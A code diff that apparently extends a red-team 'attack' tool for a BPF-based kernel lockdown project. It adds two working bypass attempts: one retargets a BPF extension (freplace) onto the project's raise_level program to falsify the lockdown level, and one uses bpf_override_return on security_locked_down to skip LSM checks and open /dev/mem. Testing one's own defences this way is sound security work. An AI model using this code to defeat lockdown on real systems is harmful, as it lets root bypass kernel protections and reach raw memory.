@@ -31,6 +31,9 @@
  *                                    runs lockdownctl set LEVEL under
  *                                    ptrace, takes fds to our maps before
  *                                    the guard is armed, then uses them
+ *        attack --freplace-raise PIN extension of a decoy of root's,
+ *                                    attached to our raise_level; the
+ *                                    link pinned at PIN
  *        attack --stress SECONDS     raises, applies and probes at once
  *        attack --marker BUILD       prints the marker of that build at
  *                                    this ABI (build-ABI-BUILD)
@@ -1045,6 +1048,186 @@ static int set_traced(const char *variant, const char *level)
 			      : strerror(err),
 		 mem >= 0 ? "opened" : strerror(errno));
 	return report("state_write", mem >= 0, detail);
+}
+
+/* What prog_raise_level (@fd) answers for LOCKDOWN_LEVEL_NONE: the level
+ * lockdownctl reads. */
+static void raise_run_level(int fd, __u32 *now)
+{
+	__u32 args = LOCKDOWN_LEVEL_NONE;
+	LIBBPF_OPTS(bpf_test_run_opts, opts, .ctx_in = &args,
+		    .ctx_size_in = sizeof(args));
+
+	if (!bpf_prog_test_run_opts(fd, &opts))
+		*now = opts.retval;
+}
+
+/*
+ * An extension program (freplace) is checked against its target at load
+ * only (check_load: dst_prog), but BPF_LINK_CREATE may give it another
+ * target (target_fd, target_btf_id), checked by the kernel's type rules
+ * alone. Root loads a decoy syscall program of its own shaped like
+ * prog_raise_level (int f(struct lockdown_raise_args *), whose fd is
+ * handed out by design), an extension of the decoy answering
+ * LOCKDOWN_LEVEL_CONFIDENTIALITY, and attaches the extension to our
+ * raise_level: every run of it, lockdownctl's reads of the level and its
+ * raises included, then runs root's code. The link is pinned at @pin.
+ * Breached when it attaches; the detail says what a run of our
+ * prog_raise_level answers for LOCKDOWN_LEVEL_NONE afterwards.
+ */
+static int freplace_retarget(const char *pin)
+{
+	const struct bpf_insn answer[] = {
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_K,
+		  .dst_reg = BPF_REG_0,
+		  .imm = LOCKDOWN_LEVEL_CONFIDENTIALITY },
+		{ .code = BPF_JMP | BPF_EXIT },
+	};
+	struct bpf_func_info fi = { 0 };
+	struct btf *btf = btf__new_empty(), *ours = NULL;
+	int u32, st, ptr, proto, func, decoy = -1, ext = -1, link = -1;
+	int target = bpf_obj_get(RAISE_PIN), target_id = -1, err = 0;
+	struct bpf_prog_info info = { 0 };
+	__u32 len = sizeof(info), now = 0;
+	static char vlog[4096];
+	char detail[192];
+
+	if (target < 0 || !btf) {
+		perror("attack: prog_raise_level's pin");
+		return 2;
+	}
+	if (!bpf_prog_get_info_by_fd(target, &info, &len) && info.btf_id)
+		ours = btf__load_from_kernel_by_id(info.btf_id);
+	if (ours)
+		target_id = btf__find_by_name_kind(ours, "raise_level",
+						   BTF_KIND_FUNC);
+	btf__free(ours);
+	u32 = btf__add_int(btf, "unsigned int", 4, 0);
+	st = btf__add_struct(btf, "lockdown_raise_args", 4);
+	btf__add_field(btf, "level", u32, 0, 0);
+	ptr = btf__add_ptr(btf, st);
+	proto = btf__add_func_proto(
+		btf, btf__add_int(btf, "int", 4, BTF_INT_SIGNED));
+	btf__add_func_param(btf, "args", ptr);
+	func = btf__add_func(btf, "rt_decoy", BTF_FUNC_GLOBAL, proto);
+	/* From 6.8 a main program whose argument is not the context is
+	 * "unreliable" and cannot be replaced: say it is (ignored before). */
+	btf__add_decl_tag(btf, "arg:ctx", func, 0);
+	if (target_id < 0 || func < 0 || btf__load_into_kernel(btf)) {
+		fprintf(stderr, "attack: BTF for the decoy (target %d)\n",
+			target_id);
+		return 2;
+	}
+	fi.type_id = func;
+	LIBBPF_OPTS(bpf_prog_load_opts, dopts, .prog_btf_fd = btf__fd(btf),
+		    .func_info = &fi, .func_info_cnt = 1,
+		    .func_info_rec_size = sizeof(fi),
+		    .prog_flags = BPF_F_SLEEPABLE);
+	decoy = bpf_prog_load(BPF_PROG_TYPE_SYSCALL, "rt_decoy", "GPL",
+			      return_zero, 2, &dopts);
+	if (decoy < 0) {
+		perror("attack: loading the decoy");
+		return 2;
+	}
+	LIBBPF_OPTS(bpf_prog_load_opts, eopts, .prog_btf_fd = btf__fd(btf),
+		    .func_info = &fi, .func_info_cnt = 1,
+		    .func_info_rec_size = sizeof(fi), .attach_prog_fd = decoy,
+		    .attach_btf_id = func, .log_buf = vlog,
+		    .log_size = sizeof(vlog), .log_level = 1);
+	ext = bpf_prog_load(BPF_PROG_TYPE_EXT, "rt_freplace", "GPL", answer, 2,
+			    &eopts);
+	if (ext < 0 && errno == EINVAL &&
+	    strstr(vlog, "Cannot replace static functions"))
+		/* Before 6.8 the kernel takes the main function of every
+		 * syscall program for "unreliable" (its argument is no
+		 * context type), ours as much as the decoy. */
+		return report("freplace_retarget", 0,
+			      "the kernel replaces no syscall program's main "
+			      "function (Cannot replace static functions)");
+	if (ext < 0) {
+		perror("attack: loading the extension of the decoy");
+		fprintf(stderr, "attack: the verifier's log: %s\n", vlog);
+		return 2;
+	}
+	LIBBPF_OPTS(bpf_link_create_opts, lopts, .target_btf_id = target_id);
+	link = bpf_link_create(ext, target, 0, &lopts);
+	err = errno;
+	if (link < 0) {
+		/* The kernel's reason, from the same check at load. */
+		LIBBPF_OPTS(bpf_prog_load_opts, topts,
+			    .prog_btf_fd = btf__fd(btf), .func_info = &fi,
+			    .func_info_cnt = 1,
+			    .func_info_rec_size = sizeof(fi),
+			    .attach_prog_fd = target,
+			    .attach_btf_id = target_id, .log_buf = vlog,
+			    .log_size = sizeof(vlog), .log_level = 1);
+		vlog[0] = 0;
+		int t = bpf_prog_load(BPF_PROG_TYPE_EXT, "rt_freplace", "GPL",
+				      answer, 2, &topts);
+		fprintf(stderr,
+			"attack: the same extension loaded on raise_level: %s; log: %s\n",
+			t >= 0 ? "loaded" : strerror(errno), vlog);
+		if (t >= 0)
+			close(t);
+	}
+	if (link >= 0 && pin)
+		bpf_obj_pin(link, pin);
+	raise_run_level(target, &now);
+	snprintf(
+		detail, sizeof(detail),
+		"BPF_LINK_CREATE(ext of decoy, target raise_level):%s raise_level(none) answers %u",
+		link >= 0 ? "attached" : strerror(err), now);
+	return report("freplace_retarget", link >= 0, detail);
+}
+
+/*
+ * bpf_override_return() from a kprobe (here kprobe.multi) on
+ * security_locked_down answering 0 would skip every LSM. It needs
+ * CONFIG_BPF_KPROBE_OVERRIDE (else the verifier knows no such helper) and
+ * a target on the error-injection list. Breached when it attaches and
+ * /dev/mem opens.
+ */
+static int attack_override_return(void)
+{
+	const struct bpf_insn insns[] = {
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_2 },
+		{ .code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_override_return },
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0 },
+		{ .code = BPF_JMP | BPF_EXIT },
+	};
+	static char vlog[4096];
+	const char *sym = "security_locked_down";
+	char detail[192];
+	int prog, link = -1, mem, err;
+	LIBBPF_OPTS(bpf_prog_load_opts, opts,
+		    .expected_attach_type = BPF_TRACE_KPROBE_MULTI,
+		    .log_buf = vlog, .log_size = sizeof(vlog), .log_level = 1);
+	LIBBPF_OPTS(bpf_link_create_opts, lopts, .kprobe_multi.syms = &sym,
+		    .kprobe_multi.cnt = 1);
+
+	prog = bpf_prog_load(BPF_PROG_TYPE_KPROBE, "rt_override", "GPL", insns,
+			     4, &opts);
+	err = errno;
+	if (prog >= 0) {
+		link = bpf_link_create(prog, 0, BPF_TRACE_KPROBE_MULTI, &lopts);
+		err = errno;
+	}
+	mem = open("/dev/mem", O_RDONLY);
+	snprintf(detail, sizeof(detail), "load:%s%s attach:%s /dev/mem:%s",
+		 prog >= 0 ? "ok" : strerror(err),
+		 prog < 0 && strstr(vlog, "unknown func") ? " (no such helper)"
+							  : "",
+		 link >= 0   ? "ok"
+		 : prog >= 0 ? strerror(err)
+			     : "no",
+		 mem >= 0 ? "opened" : strerror(errno));
+	if (mem >= 0)
+		close(mem);
+	if (link >= 0)
+		close(link);
+	if (prog >= 0)
+		close(prog);
+	return report("override_return", mem >= 0, detail);
 }
 
 /*
@@ -2099,6 +2282,10 @@ int main(int argc, char **argv)
 		return prehide(argv[2], argv[3]);
 	if (argc == 3 && !strcmp(argv[1], "--stall-load"))
 		return stall_load(argv[2]);
+	if (argc == 2 && !strcmp(argv[1], "--override-return"))
+		return attack_override_return();
+	if (argc == 3 && !strcmp(argv[1], "--freplace-raise"))
+		return freplace_retarget(argv[2]);
 	if (argc == 4 && !strcmp(argv[1], "--set-traced"))
 		return set_traced(argv[2], argv[3]);
 	if (argc == 3 && !strcmp(argv[1], "--stress"))
